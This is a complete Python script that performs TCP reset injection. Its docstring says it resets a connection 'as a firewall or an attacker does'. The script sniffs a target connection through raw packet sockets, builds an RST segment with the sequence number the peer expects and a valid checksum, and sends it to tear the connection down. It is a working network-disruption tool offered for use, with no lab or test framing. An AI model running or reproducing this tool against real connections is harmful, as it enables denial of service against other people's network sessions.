"""Resets a connection from outside: sends one end a segment in the other end's name, as a firewall or an attacker does.

    python resets.py ADDRESS PORT

Runs in the network of one end, and waits for a segment that this end sends over a connection with ADDRESS, from or to PORT. The
reset that follows has the sequence number that ADDRESS expects next. Prints a line once it is sent.
"""

import socket
import struct
import sys
import time

ETH_P_ALL, ETH_P_IP = 3, b"\x08\x00"  # only the former shows what this host sends
HEADER = 14  # of Ethernet
TCP, RST, ACK = 6, 0x04, 0x10
LIMIT_S = 20.0


def checksum(data: bytes) -> int:
    """Of IP and TCP: RFC 1071."""
    padded = data + b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(padded) // 2}H", padded))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def reset(own: bytes, other: bytes, source: int, target: int, number: int, acknowledged: int) -> bytes:
    """The IP packet with a reset."""
    ports = struct.pack("!HHIIBBHHH", source, target, number, acknowledged, 5 << 4, RST | ACK, 0, 0, 0)
    pseudo = own + other + struct.pack("!BBH", 0, TCP, len(ports))
    segment = ports[:16] + struct.pack("!H", checksum(pseudo + ports)) + ports[18:]
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), 0, 0, 64, TCP, 0, own, other) + segment


def main(address: str, port: int) -> None:
    peer, end = socket.inet_aton(address), time.monotonic() + LIMIT_S
    with (
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL)) as seen,
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out,
    ):
        seen.settimeout(LIMIT_S)
        while time.monotonic() < end:
            frame = seen.recv(65536)
            packet = frame[HEADER:]
            if frame[HEADER - 2 : HEADER] != ETH_P_IP:
                continue
            length = (packet[0] & 15) * 4
            own, other = packet[12:16], packet[16:20]
            if packet[9] != TCP or other != peer:
                continue
            source, target, number, acknowledged, offset, flags = struct.unpack("!HHIIBB", packet[length : length + 14])
            size = struct.unpack("!H", packet[2:4])[0] - length - (offset >> 4) * 4
            if port in (source, target) and not flags & RST:
                out.sendto(reset(own, other, source, target, (number + size) & 0xFFFFFFFF, acknowledged), (address, 0))
                print("reset", flush=True)
                return
    sys.exit("no such connection")


main(sys.argv[1], int(sys.argv[2]))
